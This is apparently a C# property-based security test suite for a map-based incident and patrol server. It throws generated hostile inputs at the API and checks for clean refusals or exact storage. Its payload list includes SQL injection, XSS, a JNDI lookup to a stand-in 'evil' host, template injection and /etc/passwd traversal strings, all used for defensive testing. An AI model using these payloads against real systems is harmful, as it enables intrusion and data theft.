using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using FsCheck;
using FsCheck.Fluent;
using SituationMap.Testing;
using Xunit.Abstractions;
using static SituationMap.Testing.Api;

namespace SituationMap.Server.Tests.Security;

/// <summary>
/// Property-based bad-input suite: generated hostile values thrown at every write path. Whatever comes in, the answer
/// is a 2xx (the value was legitimate and is stored exactly as sent) or a 4xx problem+json that writes nothing —
/// never a 5xx, never a partial write. Each property runs <see cref="Cases"/> generated cases; the cases actually
/// tried are counted inside the property and printed (<see cref="HostileInputTally"/>).
/// </summary>
public sealed class HostileInputTests(ServerFixture server, ITestOutputHelper output) : IClassFixture<ServerFixture>
{
    public const int Cases = 150;

    private int _tried;

    /// <summary>Runs the property for <see cref="Cases"/> generated cases (a new random seed each run) and reports how many ran.</summary>
    private void Verify(string name, Property property)
    {
        Check.One(Config.QuickThrowOnFailure.WithMaxTest(Cases), property);
        Assert.True(_tried >= Cases, $"{name}: only {_tried} cases ran");
        HostileInputTally.Report(output, name, _tried);
    }

    private static readonly string[] Nasty =
    [
        "' OR '1'='1", "'; DROP TABLE incidents; --", "Robert'); DROP TABLE cameras;--", "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>", "${jndi:ldap://evil/x}", "{{7*7}}", "../../../../etc/passwd", "%00", "\\u0000",
        "\u202Eevil\u202C", "😀🚓", "null", "NaN", "Infinity", "-1", "1e400", "", " ", "\t\n", new string('x', 5_000),
        string.Concat(Enumerable.Repeat("界", 3_000)), "SELECT pg_sleep(10)", "0x7fffffff", "true",
    ];

    private static readonly Gen<JsonNode?> HostileValue = Gen.OneOf(
        Gen.Elements(Nasty).Select(s => (JsonNode?)JsonValue.Create(s)),
        ArbMap.Default.GeneratorFor<string>().Select(s => (JsonNode?)JsonValue.Create(s ?? "")),
        Gen.Elements(double.MaxValue, double.MinValue, -0.0, 1e-300, 123456789012345.0, -1, 0, 7, 361, 1001).Select(d => (JsonNode?)JsonValue.Create(d)),
        Gen.Elements(long.MaxValue, long.MinValue, int.MaxValue, -5L).Select(l => (JsonNode?)JsonValue.Create(l)),
        Gen.Constant((JsonNode?)null),
        Gen.Elements(true, false).Select(b => (JsonNode?)JsonValue.Create(b)),
        Gen.Constant((JsonNode?)new JsonArray(1, "a", null)),
        Gen.Constant((JsonNode?)new JsonObject { ["$where"] = "1", ["__proto__"] = new JsonObject() }));

    private static Gen<double> Coordinate => Gen.OneOf(
        Gen.Choose(-180_000, 180_000).Select(i => i / 1000.0),
        Gen.Elements(double.MaxValue, -1e300, 180.0000001, -90.0000001, 1e20, 0.0),
        ArbMap.Default.GeneratorFor<double>().Where(double.IsFinite));

    private static readonly Gen<JsonNode?> HostileGeometry = Gen.OneOf(
        Gen.Zip(Coordinate, Coordinate).Select(p => (JsonNode?)new JsonObject { ["type"] = "Point", ["coordinates"] = new JsonArray(p.Item1, p.Item2) }),
        Gen.Choose(0, 8).SelectMany(n => Gen.ArrayOf(Gen.Zip(Coordinate, Coordinate), n)).Select(ring => (JsonNode?)new JsonObject
        {
            ["type"] = "Polygon",
            ["coordinates"] = new JsonArray(new JsonArray(ring.Select(p => (JsonNode?)new JsonArray(p.Item1, p.Item2)).ToArray())),
        }),
        Gen.Elements("Point", "Polygon", "GeometryCollection", "Circle", "", "point").Select(t => (JsonNode?)new JsonObject { ["type"] = t, ["coordinates"] = new JsonArray() }),
        HostileValue);

    private async Task<bool> RefusedCleanlyOrStoredExactlyAsync(string url, JsonNode body, Func<HttpResponseMessage, Task<bool>>? storedExactly = null)
    {
        Interlocked.Increment(ref _tried);
        var head = await server.Database.ScalarAsync("SELECT seq FROM change_log_head");
        var response = await server.CreateClient().PostAsync(url, new StringContent(body.ToJsonString(), Encoding.UTF8, "application/json"));
        var code = (int)response.StatusCode;
        if (code >= 500) throw new InvalidOperationException($"{url} answered {code} to {Shorten(body)}: {await response.Content.ReadAsStringAsync()}");
        if (code >= 400)
        {
            if (response.Content.Headers.ContentType?.MediaType != "application/problem+json") throw new InvalidOperationException($"{code} without problem+json");
            if (await server.Database.ScalarAsync("SELECT seq FROM change_log_head") != head) throw new InvalidOperationException($"{code} but something was written for {Shorten(body)}");
            return true;
        }
        return storedExactly is null || await storedExactly(response);
    }

    private static string Shorten(JsonNode body) => body.ToJsonString() is var s && s.Length > 300 ? s[..300] + "…" : s;

    [Fact]
    public void AnyValueInAnyIncidentPropertyIsRefusedCleanlyOrStoredExactly() => Verify(nameof(AnyValueInAnyIncidentPropertyIsRefusedCleanlyOrStoredExactly),
        Prop.ForAll(Gen.Elements("category", "severity", "status", "occurred_at", "reported_at", "address", "district", "source", "external_id", "description", "version", "unknown_field")
            .SelectMany(p => HostileValue.Select(v => (p, v))).ToArbitrary(), c =>
        {
            var body = Incident().With(c.p, c.v?.DeepClone());
            return RefusedCleanlyOrStoredExactlyAsync("/api/incidents", body, async response =>
            {
                var stored = (await response.JsonAsync()).GetProperty("properties");
                return c.p is not ("address" or "description") || stored.GetProperty(c.p).GetString() == (c.v as JsonValue)?.GetValue<string>();
            }).GetAwaiter().GetResult();
        }));

    [Fact]
    public void AnyGeometryForAZoneIsRefusedCleanlyOrStoredValid() => Verify(nameof(AnyGeometryForAZoneIsRefusedCleanlyOrStoredValid),
        Prop.ForAll(HostileGeometry.ToArbitrary(), g =>
            RefusedCleanlyOrStoredExactlyAsync("/api/zones", Feature(g?.DeepClone(), new JsonObject { ["name"] = "fuzz", ["kind"] = "school", ["risk_level"] = 1 }), async response =>
            {
                var id = (await response.JsonAsync()).Id();
                return await server.Database.ScalarAsync($"SELECT count(*) FROM zones WHERE id = {id} AND ST_IsValid(geom)") == 1;
            }).GetAwaiter().GetResult()));

    [Fact]
    public void AnyGeometryForAnIncidentIsRefusedCleanlyOrStoredInRange() => Verify(nameof(AnyGeometryForAnIncidentIsRefusedCleanlyOrStoredInRange),
        Prop.ForAll(HostileGeometry.ToArbitrary(), g =>
            RefusedCleanlyOrStoredExactlyAsync("/api/incidents", Feature(g?.DeepClone(), IncidentProperties()), async response =>
            {
                var c = (await response.JsonAsync()).GetProperty("geometry").GetProperty("coordinates");
                return Math.Abs(c[0].GetDouble()) <= 180 && Math.Abs(c[1].GetDouble()) <= 90;
            }).GetAwaiter().GetResult()));

    [Fact]
    public void AnyValueInACameraIsRefusedCleanlyOrStored() => Verify(nameof(AnyValueInACameraIsRefusedCleanlyOrStored),
        Prop.ForAll(Gen.Elements("name", "kind", "heading_deg", "field_of_view_deg", "range_m", "mounting_height_m", "status", "privacy_masks", "installed_at", "owner_unit")
            .SelectMany(p => Gen.OneOf(HostileValue, HostileGeometry).Select(v => (p, v))).ToArbitrary(), c =>
            RefusedCleanlyOrStoredExactlyAsync("/api/cameras", Camera().With(c.p, c.v?.DeepClone())).GetAwaiter().GetResult()));

    [Fact]
    public void AnyPositionReportIsRefusedCleanlyOrAccepted() => Verify(nameof(AnyPositionReportIsRefusedCleanlyOrAccepted),
        Prop.ForAll(Gen.Elements("unit_id", "call_sign", "recorded_at", "longitude", "latitude", "speed_mps", "heading_deg")
            .SelectMany(p => HostileValue.Select(v => (p, v))).ToArbitrary(), c =>
        {
            var report = new JsonObject { ["call_sign"] = "FUZZ-1", ["recorded_at"] = Iso(DateTimeOffset.UtcNow.AddMinutes(-1)), ["longitude"] = 114.9, ["latitude"] = 40.8 };
            report[c.p] = c.v?.DeepClone();
            return RefusedCleanlyOrStoredExactlyAsync("/api/patrol-units/positions", new JsonObject { ["positions"] = new JsonArray(report) }).GetAwaiter().GetResult();
        }));

    [Fact]
    public void AnyWholeBodyIsRefusedCleanly() => Verify(nameof(AnyWholeBodyIsRefusedCleanly),
        Prop.ForAll(Gen.OneOf(HostileValue.Select(v => v?.ToJsonString() ?? "null"), ArbMap.Default.GeneratorFor<string>().Select(s => s ?? ""),
            Gen.Elements("{", "[[[[[[[[[[", "{\"type\":\"Feature\"", "\uFEFF{}", new string('[', 100) + new string(']', 100))).ToArbitrary(), text =>
        {
            Interlocked.Increment(ref _tried);
            var head = server.Database.ScalarAsync("SELECT seq FROM change_log_head").GetAwaiter().GetResult();
            var response = server.CreateClient().PostAsync("/api/incidents", new StringContent(text, Encoding.UTF8, "application/json")).GetAwaiter().GetResult();
            return (int)response.StatusCode is >= 400 and < 500 && server.Database.ScalarAsync("SELECT seq FROM change_log_head").GetAwaiter().GetResult() == head;
        }));

    [Fact]
    public void AnyListQueryIsAnsweredOrRefusedNeverBroken() => Verify(nameof(AnyListQueryIsAnsweredOrRefusedNeverBroken),
        Prop.ForAll(Gen.Elements("limit", "after", "bbox", "from", "to", "category", "severity", "status", "district")
            .SelectMany(p => Gen.OneOf(Gen.Elements(Nasty), ArbMap.Default.GeneratorFor<string>().Select(s => s ?? ""), Gen.Choose(-1000, 100_000).Select(i => i.ToString(CultureInfo.InvariantCulture)))
                .Select(v => (p, v))).ToArbitrary(), c =>
        {
            Interlocked.Increment(ref _tried);
            var response = server.CreateClient().GetAsync($"/api/incidents?{c.p}={Uri.EscapeDataString(c.v)}").GetAwaiter().GetResult();
            // 414/431: Kestrel refuses request lines over 8 KiB before the application sees them
            return response.StatusCode is HttpStatusCode.OK or HttpStatusCode.BadRequest or HttpStatusCode.RequestUriTooLong or HttpStatusCode.RequestHeaderFieldsTooLarge;
        }));

    [Fact]
    public async Task InjectionStringsAreStoredAsPlainTextAndTheSchemaIsIntact()
    {
        foreach (var nasty in Nasty.Where(n => n.Length is > 0 and < 1000 && !n.Contains('\0', StringComparison.Ordinal)))
        {
            _tried++;
            var created = await server.CreateClient().CreateAsync("incidents", Incident().With("address", nasty));
            Assert.Equal(nasty, created.GetProperty("properties").GetProperty("address").GetString());
        }
        Assert.Equal(8, await server.Database.ScalarAsync(
            "SELECT count(*) FROM pg_tables WHERE tablename IN ('incidents','cameras','zones','districts','patrol_routes','patrol_units','audit_log','accounts')"));
        HostileInputTally.Report(output, nameof(InjectionStringsAreStoredAsPlainTextAndTheSchemaIsIntact), _tried);
    }
}
